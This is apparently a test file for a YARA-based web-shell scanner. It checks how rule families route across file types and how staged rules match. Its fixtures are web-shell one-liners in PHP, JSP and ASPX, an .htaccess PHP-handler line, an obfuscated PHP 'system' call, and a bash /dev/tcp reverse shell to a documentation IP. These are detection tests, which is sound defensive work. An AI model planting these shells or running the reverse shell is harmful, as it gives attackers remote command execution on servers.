import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ALL_RULE_FAMILIES, RULE_FAMILY, loadRules, ruleFamily, sitesOf } from './yara.js';
import { STAGED_RULES } from './rules/index.js';
import { createScanner } from './scanner.js';

// One text that our rules of every family match: a PHP one-liner, a JSP page running a request
// parameter, an ASP.NET page starting a process with request input, and an .htaccess line making
// images PHP (the "other" family: .htaccess, scripts, tunnels).
const PHP = '<?php eval($_POST["c"]); ?>\n';
const JSP = '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n';
const ASPX = '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>\n';
const HTACCESS = 'AddType application/x-httpd-php .jpg\n';
const REVERSE = 'bash -c "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"\n';
const ALL = Buffer.from(PHP + JSP + ASPX + HTACCESS, 'latin1');
const VARS = { filename: 'x', filepath: '/x/x', extension: '', filetype: '' };

describe('scan: our rules in families', () => {
  const rules = loadRules();

  it('names each rule by its prefix', () => {
    assert.equal(ruleFamily('mamori_php_one_liner'), RULE_FAMILY.php);
    assert.equal(ruleFamily('mamori_aspx_process_start'), RULE_FAMILY.asp);
    assert.equal(ruleFamily('mamori_asp_eval_request'), RULE_FAMILY.asp);
    assert.equal(ruleFamily('mamori_jsp_runtime_exec'), RULE_FAMILY.jsp);
    assert.equal(ruleFamily('mamori_htaccess_prepend'), RULE_FAMILY.other);
    assert.equal(ruleFamily('user_rule'), RULE_FAMILY.other);
  });

  it('every set of families compiles, and reads at least the families asked for', () => {
    const families = (mask: number) => new Set(rules.scan(ALL, VARS, mask).map((h) => ruleFamily(h.rule)));
    const everything = families(ALL_RULE_FAMILIES);
    assert.deepEqual([...everything].sort(), [RULE_FAMILY.php, RULE_FAMILY.asp, RULE_FAMILY.jsp, RULE_FAMILY.other].sort());
    let sets = 0;
    for (let mask = 1; mask <= ALL_RULE_FAMILIES; mask++) {
      const got = families(mask);
      for (const f of [RULE_FAMILY.php, RULE_FAMILY.asp, RULE_FAMILY.jsp, RULE_FAMILY.other]) if (mask & f) assert.ok(got.has(f), `mask ${mask}: family ${f} not read`);
      sets++;
    }
    assert.equal(sets, 15);
    // (nothing of ours when no family is asked for)
    assert.deepEqual(rules.scan(ALL, VARS, 0), []);
    // a PHP file's set leaves the ASP and JSP rules out
    const php = families(RULE_FAMILY.php | RULE_FAMILY.other);
    assert.ok(!php.has(RULE_FAMILY.asp) && !php.has(RULE_FAMILY.jsp));
  });

  it('lists our rule files with their rules, as before the split', () => {
    const files = rules.files.filter((f) => f.builtin);
    assert.deepEqual(files.map((f) => f.file), ['mamori/php.yar', 'mamori/web.yar']);
    assert.ok(files.every((f) => f.rules > 10));
    const hits = rules.scan(ALL, VARS);
    assert.ok(hits.some((h) => h.source === 'mamori/php.yar' && h.builtin));
    assert.ok(hits.some((h) => h.source === 'mamori/web.yar' && h.builtin));
  });
});

describe('scan: which of our rules read a file', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mamori-families-'));
  writeFileSync(join(dir, 'marker.yar'), 'rule user_marker { strings: $a = "/dev/tcp/" condition: $a }\n');
  const scanner = createScanner({ rules: [join(dir, 'marker.yar')] });
  const ours = (path: string, text: string) => scanner.scanBuffer(Buffer.from(text, 'latin1'), path).findings.filter((f) => f.source.startsWith('mamori/')).map((f) => f.rule);
  const users = (path: string, text: string) => scanner.scanBuffer(Buffer.from(text, 'latin1'), path).findings.filter((f) => f.rule === 'user_marker').length;

  it('a data file (JSON, CSS, Markdown, SVG) without tags is read by the user\'s rules only', () => {
    // (without a script's words: with them, ours read it too, below: red team S25R-1)
    const quiet = '{"help": "bash can open /dev/tcp/HOST/PORT as a file"}\n';
    for (const name of ['notes.json', 'site.css', 'README.md', 'logo.svg', 'app.js.map', 'de.po']) {
      assert.deepEqual(ours(`/srv/www/${name}`, quiet), [], name);
      assert.equal(users(`/srv/www/${name}`, quiet), 1, name);
    }
  });

  it('red team S25R-1: a data file with a script\'s words (a reverse shell line) is read by the rest of our rules, as at 82bebf2 (python3 app.map runs it)', () => {
    for (const name of ['notes.json', 'site.css', 'README.md', 'logo.svg', 'app.js.map', 'de.po']) {
      assert.deepEqual(ours(`/srv/www/${name}`, REVERSE), ['mamori_script_reverse_shell'], name);
      assert.equal(users(`/srv/www/${name}`, REVERSE), 1, name);
    }
  });

  it('the same line in a script, a PHP file, a JavaScript file or a file of no known kind is read by ours', () => {
    for (const name of ['run.sh', 'cron', 'tool.js', 'backup.txt', 'page.html']) assert.ok(ours(`/srv/www/${name}`, REVERSE).includes('mamori_script_reverse_shell'), name);
    assert.ok(ours('/srv/www/x.php', `<?php system('${REVERSE.trim()}');`).includes('mamori_script_reverse_shell'));
  });

  it('a data file with a PHP tag or a <% is read by the families that count there', () => {
    assert.ok(ours('/srv/www/uploads/avatar.svg', PHP).some((r) => r.startsWith('mamori_php_')));
    assert.equal(scanner.scanBuffer(Buffer.from(PHP, 'latin1'), '/srv/www/lang.json').verdict, 'malicious');
    assert.ok(ours('/srv/www/lang.json', JSP).some((r) => r.startsWith('mamori_jsp')));
    assert.ok(ours('/srv/www/lang.json', `${REVERSE}${PHP}`).includes('mamori_script_reverse_shell'));
  });

  it('ASP and JSP rules still read other pages behind a <% and never a PHP file', () => {
    assert.ok(ours('/srv/www/template.js', JSP).some((r) => r.startsWith('mamori_jsp')));
    assert.ok(ours('/srv/www/up/shell.jpg', ASPX).some((r) => r.startsWith('mamori_asp')));
    assert.deepEqual(ours('/srv/www/x.php', `<?php /* ${JSP} */ ?>${JSP}`).filter((r) => /^mamori_(asp|jsp)/.test(r)), []);
  });

  it('cleans up', () => rmSync(dir, { recursive: true, force: true }));
});

describe('scan: a staged rule (its sites first, the whole rule where one is found)', () => {
  const rules = loadRules();
  const php = (code: string) => rules.scan(Buffer.from(`<?php\n${code}\n`, 'latin1'), { filename: 'x.php', filepath: '/w/x.php', extension: 'php', filetype: '' }, RULE_FAMILY.php);
  const joined = (code: string) => php(code).filter((h) => h.rule === 'mamori_php_joined_name_call');

  it('mamori_php_joined_name_call is staged on its five call sites', () => {
    assert.deepEqual(STAGED_RULES.get('mamori_php_joined_name_call'), ['a0', 'a', 'r', 'v', 'b']);
  });

  it('a site with the pieces is found, with the offset of the whole rule\'s first match', () => {
    const code = `$p = ['sy', 'st', 'em'];\nimplode('', $p)($_GET['c']);`;
    const hits = joined(code);
    assert.equal(hits.length, 1);
    assert.equal(hits[0]!.offset, 11, 'at the array of pieces (its "["), where the whole rule matches first: not at the call, where its sites are');
    // the keyed pieces and str_split are evidence as well
    assert.equal(joined(`$p = ['s' => 1, 'y' => 2, 'st' => 3];\nimplode('', array_keys($p))($_GET['c']);`).length, 1);
    assert.equal(joined(`$p = str_split('system');\nimplode('', $p)($_POST['c']);`).length, 1);
    // the inline pieces need no evidence
    assert.equal(joined(`implode('', ['sy', 'st', 'em'])($_GET['c']);`).length, 1);
  });

  it('a site without the pieces is not (a dispatcher), nor pieces without a site', () => {
    assert.equal(joined(`$parts = ['page_', $page];\nimplode('', $parts)($req);`).length, 0);
    assert.equal(joined(`$p = ['id' => 1, 'ty' => 2];\necho implode(', ', $p);`).length, 0);
  });

  it('its first pass keeps the named strings and asks for any of them; a site not in the rule is refused', () => {
    const src = 'rule t {\n  meta:\n    score = 1\n  strings:\n    $a = "x"\n    $b = "y"\n    $c = "z"\n  condition:\n    ($a and $b) or $c\n}\n';
    assert.equal(sitesOf('t', src, ['a', 'c']), 'rule t {\n  meta:\n    score = 1\n  strings:\n    $a = "x"\n    $c = "z"\n  condition:\n    any of them\n}\n');
    assert.throws(() => sitesOf('t', src, ['a', 'd']), /2 sites named, 1 found/);
    assert.throws(() => sitesOf('t', 'rule t { condition: true }', ['a']), /no strings/);
  });
});
